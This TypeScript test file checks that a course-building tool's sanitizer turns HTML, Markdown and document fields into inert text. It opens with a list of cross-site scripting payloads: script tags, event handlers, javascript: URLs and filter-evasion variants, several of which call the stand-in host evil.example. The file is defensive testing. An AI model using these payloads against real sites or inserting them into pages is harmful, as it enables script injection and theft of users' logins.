import fc from 'fast-check';
import type { Element, Root } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { lessonView } from '@/kinds/lesson-view';
import { courseFiles, courseOf } from '@/test/course-folder';
import { compileCourse } from '../compile/course';
import { DocumentFile, documentText, readDocument } from './document-file';
import { attributeValue, framedLesson, plainMarkdown } from './frame-text';
import { readParagraphs } from './read-document-text';

/** One of every family of active content, in the forms in which it gets past those who look for words. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`onerror=alert(1)`">',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">link</a>',
  '<a href=" &#106;avascript:alert(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example)}</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">cover</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onclick="alert(1)" id="x" class="y">text</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  `\${alert(1)} {{constructor.constructor("alert(1)")()}}`,
  '[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>',
  ':::callout{#x kind="note"}\nx\n:::',
  '::figure{#f name="x" caption="y"}',
  ':cite[x]{onclick="alert(1)"}',
  '- !!js/function "function(){alert(1)}"',
  '&anchor [*anchor]',
  '--- # yaml\nid: x',
];

const parser = unified().use(rehypeParse, { fragment: true });

/** Every element of some html, with its attributes. */
function elementsIn(html: string): Element[] {
  const found: Element[] = [];
  visit(parser.parse(html) as Root, 'element', (node) => {
    found.push(node);
  });
  return found;
}

const allowed = new Set(
  'div p span a ul ol li figure figcaption blockquote cite strong em code pre h2 h3 aside button dt dd sup'.split(
    ' ',
  ),
);

function expectInert(html: string): void {
  for (const { tagName, properties } of elementsIn(html)) {
    expect(allowed.has(tagName), tagName).toBe(true);
    for (const [name, value] of Object.entries(properties)) {
      expect(/^(on|style$|src|srcdoc|formaction|action)/i.test(name), `${tagName} ${name}`).toBe(false);
      if (name === 'href') expect(String(value)).toMatch(/^(#[\w-]+$|[a-z0-9-]+$|https?:\/\/)/);
    }
  }
}

const documentOf = (text: string, own: boolean) => ({
  id: 'the-document',
  title: text,
  publisher: text,
  author: text,
  date: '2019',
  language: 'en',
  kind: 'news' as const,
  primary: false,
  usedFor: text,
  note: text,
  rights: text,
  retells: text,
  numbered: 'A1',
  passages: [
    {
      id: 'A1',
      text,
      title: text,
      speaker: text,
      mode: 'quote' as const,
      verb: text,
      zh: text,
      pinyin: text,
      theme: text,
      evidence: 'E1' as const,
      paraphrase: own ? null : text,
    },
  ],
  removed: [{ before: 'A1', text, why: text }],
});

test.each(hostile)('no field of a document reaches a reader as markup: %s', async (raw) => {
  const text = raw.replace(/\s+/g, ' ');
  for (const own of [true, false]) {
    const document = documentOf(text, own);
    const framed = framedLesson(document, document.passages, {
      id: 'framed',
      title: text,
      today: '2026-01-01',
    });
    const { course, problems } = await compileCourse(
      courseOf({
        'documents/the-document.yaml': documentText(document),
        'modules/1-first/1-one.md': courseFiles['modules/1-first/1-one.md'].replace('ref="D1"', 'ref="A1"'),
        'modules/1-first/2-framed.md': framed.replace(/\[\[write: [^\]]*\]\]/g, 'Written.'),
      }),
    );
    expect(problems.filter(({ advice }) => !advice)).toEqual([]);
    for (const { content } of course?.lessons ?? []) {
      const { segments, passages, sources } = lessonView(content);
      for (const html of [passages, sources, ...segments.map((segment) => segment.html)]) expectInert(html);
      expect(passages).toContain('Also in');
    }
  }
});

test('the check above sees what it looks for', () => {
  expect(() => expectInert('<script>alert(1)</script>')).toThrow();
  expect(() => expectInert('<p onclick="x">x</p>')).toThrow();
  expect(() => expectInert('<a href="javascript:alert(1)">x</a>')).toThrow();
});

describe('active content in a text is text, and nothing else', () => {
  const read = (text: string, format: 'text' | 'markdown' | 'html') => readParagraphs(text, format);

  test.each(hostile)('pasted as plain text it stays what it is: %s', (text) => {
    const words = read(text, 'text').map((paragraph) => paragraph.text);
    expect(words.join(' ').replace(/\s+/g, ' ')).toBe(text.replace(/\s+/g, ' '));
  });

  test.each(hostile)('from html and Markdown no script, style, handler or address is left: %s', (text) => {
    for (const format of ['html', 'markdown'] as const) {
      const found = read(`<p>before</p>\n\n${text}\n\n<p>after</p>`, format);
      const words = found.map((paragraph) => paragraph.text).join('\n');
      // Attributes are gone for good; what the page itself showed as text may name them, as text.
      expect(words).not.toMatch(/\son\w+=(?!alert)|srcdoc|@import|http-equiv/i);
      const shown = /&lt;|CDATA|-alert|\$\{|\[x\]|<scr<|`|"><|yaml|!!js|callout|noscript|<!-->/;
      if (!shown.test(text)) expect(words).not.toMatch(/alert|javascript:|evil\.example|<|>/i);
    }
  });

  test('whatever it is, it goes through the file of a document and back unchanged', () => {
    const any = fc.oneof(
      fc.constantFrom(...hostile),
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: 'binary' }),
    );
    const text = any.map((raw) => raw.replace(/\p{Cs}/gu, '').trim()).filter((raw) => raw !== '');
    fc.assert(
      fc.property(text, text, (words, theme) => {
        const document = {
          id: 'a-report',
          title: words,
          publisher: theme,
          date: '2019',
          language: 'en',
          kind: 'news' as const,
          primary: false,
          usedFor: 'x',
          passages: [{ id: 'A1', text: words, speaker: theme, mode: 'gloss' as const }],
          removed: [{ before: 'A1', text: words, why: theme }],
        };
        const file = documentText(document);
        expect(readDocument(file)).toEqual(document);
        const changed = new DocumentFile(file);
        changed.setPassage(0, { theme: words, paraphrase: theme });
        expect(readDocument(changed.toString())?.passages[0]).toEqual({
          ...document.passages[0],
          theme: words,
          paraphrase: theme,
        });
      }),
    );
  });
});

test('plain Markdown means its text and nothing else, and an attribute is one attribute', () => {
  for (const text of hostile) {
    const words = plainMarkdown(text);
    expect(words).not.toMatch(/(?<!\\)[<`[\]{}]/);
    expect(attributeValue(text)).not.toMatch(/["\n]/);
  }
  expect(plainMarkdown('1. A list - no.')).toBe('1\\. A list - no.');
  expect(plainMarkdown('- none')).toBe('\\- none');
});
